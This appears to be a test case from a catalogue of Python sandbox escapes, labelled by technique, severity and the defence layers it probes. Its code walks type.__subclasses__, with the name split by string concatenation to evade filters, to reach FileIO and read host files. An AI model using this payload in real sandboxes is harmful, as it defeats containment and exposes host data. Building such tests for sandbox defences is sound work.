# technique: the list of subclasses by the metaclass's table
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    for c in vars(type)["__sub" + "classes__"](object):
        if c.__name__ == "FileIO" or c.__name__ == "_IOBase":
            for d in vars(type)["__sub" + "classes__"](c):
                for e in vars(type)["__sub" + "classes__"](d):
                    if e.__name__ == "FileIO":
                        return e
    raise LookupError("no such class")

read_host(trick)
